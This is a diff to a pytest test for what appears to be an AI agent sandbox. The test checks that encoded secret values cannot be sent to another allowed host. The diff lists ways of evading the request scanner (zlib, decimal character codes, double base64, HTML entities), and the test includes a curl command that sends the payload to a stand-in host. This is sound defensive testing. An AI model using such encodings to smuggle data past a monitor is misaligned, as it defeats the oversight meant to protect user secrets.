@@ -256,15 +256,14 @@ EVASIONS = {
 }
 
 
-@pytest.mark.xfail(strict=True, reason="open: request scanning of a value the agent holds is best-effort; "
-                   "zlib (no magic the unpacker knows), decimal char codes, double base64 and HTML "
-                   "entities pass to another allowed host")
+# Fixed (issue 6): zlib streams are unpacked, character codes, HTML entities and base64 blobs decoded.
 @pytest.mark.parametrize("how", sorted(EVASIONS))
 def test_encoded_real_value_does_not_reach_another_host(bottle: Bottle, reflector: Reflector,
                                                         how: str) -> None:
     args, payload = EVASIONS[how]
     marker = uuid.uuid4().hex
-    bottle.sh("cat > /tmp/payload", stdin=payload.decode("latin-1"))
+    # through base64: a text pipe would re-encode the binary payloads (zlib) as UTF-8 and garble them
+    bottle.sh("base64 -d > /tmp/payload", stdin=base64.b64encode(payload).decode())
     bottle.sh(f"curl -sS --max-time 20 -o /dev/null {args} https://other.test/{marker}")
     time.sleep(0.5)
     arrived = [r for r in reflector.received() if marker in str(r["path"])]
